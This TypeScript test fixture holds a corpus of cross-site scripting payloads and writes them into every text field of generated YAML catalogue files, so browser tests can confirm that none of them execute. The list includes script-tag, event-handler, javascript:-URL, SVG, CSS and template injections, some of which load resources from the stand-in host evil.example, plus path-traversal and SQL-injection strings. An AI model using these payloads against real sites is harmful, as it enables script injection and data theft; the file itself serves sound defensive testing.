/**
 * A corpus of hostile texts for the browser tests (issue 8 §3), and a catalogue folder whose every
 * free-text field holds one of them. A payload that ran sets `window.__xss` (written `__xss=1` or
 * `top['__xss']=1` where a name may hold no dot), opens a dialog (`alert`), or fetches from
 * `evil.example`; the tests watch for all three.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

export const payloads: readonly string[] = [
  // Script tags and their disguises.
  '<script>__xss=1</script>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>__xss=1</scr</script>ipt>',
  '</title><script>__xss=1</script>',
  '</textarea><script>__xss=1</script>',
  '<!--<script>-->__xss=1<!--</script>-->',
  '<script>/*</script><img src=x onerror=__xss=1>*/</script>',
  // Event handlers.
  '<img src=x onerror=__xss=1>',
  '<img src=x onerror="alert(2)">',
  '<body onload=__xss=1>',
  '<details open ontoggle=__xss=1>',
  '<input autofocus onfocus=__xss=1>',
  '<div onmouseover="__xss=1" style="position:fixed;inset:0">hover</div>',
  '<video><source onerror=__xss=1></video>',
  '<marquee onstart=__xss=1>x</marquee>',
  '" onmouseover="__xss=1" x="',
  "' onfocus='__xss=1' autofocus x='",
  // URLs.
  'javascript:__xss=1',
  'JaVaScRiPt:alert(3)',
  ' \tjavascript:__xss=1',
  'java&#x09;script:__xss=1',
  'data:text/html,<script>__xss=1</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+',
  'vbscript:msgbox(1)',
  '<a href="javascript:__xss=1">点击</a>',
  '<iframe src="javascript:__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent[`__xss`]=1</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button>提交</button></form>',
  // SVG.
  '<svg onload=__xss=1>',
  '"><svg onload=__xss=1>',
  '<svg><foreignObject><img src=x onerror=__xss=1></foreignObject></svg>',
  '<svg><animate onbegin=__xss=1 attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:__xss=1 /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__xss=1 /></svg>#x"/></svg>',
  '<svg><a xlink:href="javascript:__xss=1"><text x=20 y=20>点我</text></a></svg>',
  ']]><script>__xss=1</script><![CDATA[',
  // CSS injection.
  '</style><script>__xss=1</script>',
  '</style><img src=x onerror=__xss=1>',
  'red;}</style><script>__xss=1</script>',
  'x{background:url(javascript:__xss=1)}',
  'width: expression(__xss=1)',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<div style="background-image:url(https://evil.example/x.png)">背景</div>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  // Broken UTF-8 and lone surrogates (YAML escapes keep them in the text; pages show U+FFFD).
  'lone high \uD800 surrogate',
  'lone low \uDC00<b>surrogate</b>',
  'reversed \uDFFF\uD83D pair',
  'replacement \uFFFD\uFFFD<script>__xss=1</script>',
  'overlong %C0%BCscript%C0%BE',
  // Right-to-left overrides and invisible characters.
  '\u202Egnp.exe\u202C 行政许可',
  '\u202E<script>__xss=1</script>\u202C',
  '\u2066\u2067\u2068隔离\u2069\u200F\u200E',
  'zero\u200Bwidth\u200D<img src=x onerror=__xss=1>\uFEFF',
  // Template and markdown shapes.
  '{{constructor.constructor("__xss=1")()}}',
  '${__xss=1}',
  '<%= __xss=1 %>',
  '[点击](javascript:__xss=1)',
  '![图](https://evil.example/x.png)',
  '**粗体** _斜体_ `代码` <b>标签</b>',
  '| a | b |\n|---|---|\n| <script>__xss=1</script> | x |',
  // mermaid advisories: labels that reach innerHTML, init directives, click callbacks, classDef breakouts.
  'A["<img src=x onerror=__xss=1>"] --> B',
  '%%{init: {"securityLevel": "loose"}}%%',
  'click A call __xss() "提示"',
  'classDef x color:red;}</style><script>__xss=1</script>',
  '<a href="javascript:alert(4)">mermaid</a>',
  // bpmn-js advisories: names and labels with markup, entity- and URL-encoded script.
  '<img src onerror=__xss=1>',
  '"><img src=x onerror=__xss=1>',
  '&lt;script&gt;__xss=1&lt;/script&gt;',
  '&#60;img src=x onerror=__xss=1&#62;',
  '%3Cscript%3E__xss%3D1%3C%2Fscript%3E',
  '\\u003cscript\\u003e__xss=1\\u003c/script\\u003e',
  // Names that look like code, paths and prototypes.
  '__proto__',
  'constructor',
  '../../../etc/passwd',
  'C:\\Windows\\win.ini',
  "'; DROP TABLE powers; --",
];

/** The text a page shows for a payload: lone surrogates become U+FFFD when written as UTF-8. */
export function shown(payload: string): string {
  return payload.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
}

/** Whitespace aside: charts wrap long names and HTML collapses runs of spaces. */
export const squeezed = (text: string) => shown(text).replace(/\s+/g, '');

/** Payloads that may name a state or event: no '.' or '#', not starting with '$' or a space. */
export const namePayloads: readonly string[] = payloads.filter((payload) => /^[^.#$\s][^.#]*$/.test(payload));

/** A YAML scalar holding exactly the text (JSON strings are YAML flow scalars, escapes included). */
const q = (text: string) => JSON.stringify(text);

export interface XssCatalogue {
  /** Every payload the catalogue holds, each at least once. */
  readonly used: ReadonlySet<string>;
  /** The powers' codes and, for each, its state names and the other texts of its own page. */
  readonly powers: readonly { readonly code: string; readonly file: string; readonly states: readonly string[]; readonly texts: readonly string[] }[];
  /** Catalogue-level texts: title, authority, departments and laws. */
  readonly catalogueTexts: readonly string[];
}

/**
 * Writes a catalogue folder (catalogue.yaml and powers/*.yaml) whose every text field holds a
 * payload; fields take payloads in turn, and there are enough powers that every payload is used.
 */
export function writeXssCatalogue(folder: string): XssCatalogue {
  let next = 0;
  let nextName = 0;
  const used = new Set<string>();
  const take = () => {
    const payload = payloads[next++ % payloads.length]!;
    used.add(payload);
    return payload;
  };
  const takeName = (prefix: string) => {
    const payload = namePayloads[nextName++ % namePayloads.length]!;
    used.add(payload);
    return prefix + payload;
  };
  const catalogueTexts = [take(), take(), take(), take(), take(), take(), take()];
  const [title, authority, description, department, website, law, url] = catalogueTexts as [string, string, string, string, string, string, string];
  const article = take();
  mkdirSync(join(folder, 'powers'), { recursive: true });
  writeFileSync(
    join(folder, 'catalogue.yaml'),
    [
      'sunlit: 1',
      'id: xss',
      `title: ${q(title)}`,
      `authority: ${q(authority)}`,
      'edition: "1"',
      `description: ${q(description)}`,
      `departments: [{ id: d, name: ${q(department)}, website: ${q(website)} }]`,
      `laws: [{ id: l, title: ${q(law)}, url: ${q(url)}, articles: { "1": ${q(article)} } }]`,
      'powers: [powers/*.yaml]',
      '',
    ].join('\n'),
  );
  const powers: { code: string; file: string; states: string[]; texts: string[] }[] = [];
  for (let index = 0; used.size < payloads.length || index < 2; index++) {
    const code = `XSS-${index + 1}`;
    const file = `powers/xss-${index + 1}.yaml`;
    // Prefixes keep names unique within a power however the corpus cycles.
    const first = takeName(`甲${index}`);
    const second = takeName(`乙${index}`);
    const event = takeName('事件');
    const texts = {
      name: take(), unit: take(), conditions: take(), material: take(), feeItem: take(), feeStandard: take(), remarks: take(),
      right: take(), accountability: take(), channel: take(), publicity: take(), clock: take(), actor: take(), action: take(),
      risk: take(), control: take(), guard: take(), duty: take(), document: take(), description: take(), finalActor: take(),
    };
    const yaml = [
      `code: ${code}`,
      `name: ${q(texts.name)}`,
      'category: other',
      'department: d',
      `unit: ${q(texts.unit)}`,
      'basis: [l 1]',
      `conditions: ${q(texts.conditions)}`,
      `materials: [${q(texts.material)}]`,
      `fees: [{ item: ${q(texts.feeItem)}, standard: ${q(texts.feeStandard)} }]`,
      `remarks: ${q(texts.remarks)}`,
      `rights: [{ kind: complaint, text: ${q(texts.right)} }]`,
      `accountability: [{ text: ${q(texts.accountability)} }]`,
      `supervision: { channels: [${q(texts.channel)}] }`,
      `publicity: [${q(texts.publicity)}]`,
      `clocks: { c: { name: ${q(texts.clock)}, within: 5, unit: workday, from: ${q(first)} } }`,
      'flow:',
      `  initial: ${q(first)}`,
      `  description: ${q(texts.description)}`,
      '  states:',
      `    ${q(first)}:`,
      `      actor: ${q(texts.actor)}`,
      `      action: ${q(texts.action)}`,
      `      duties: [${q(texts.duty)}]`,
      `      documents: [${q(texts.document)}]`,
      `      risk: { level: high, text: ${q(texts.risk)}, controls: [${q(texts.control)}] }`,
      `      on: { ${q(event)}: { target: ${q(second)}, guard: ${q(texts.guard)} } }`,
      `    ${q(second)}: { type: final, actor: ${q(texts.finalActor)} }`,
      '',
    ].join('\n');
    writeFileSync(join(folder, file), yaml);
    powers.push({ code, file, states: [first, second], texts: [...Object.values(texts), event] });
  }
  return { used, powers, catalogueTexts: [...catalogueTexts, article] };
}
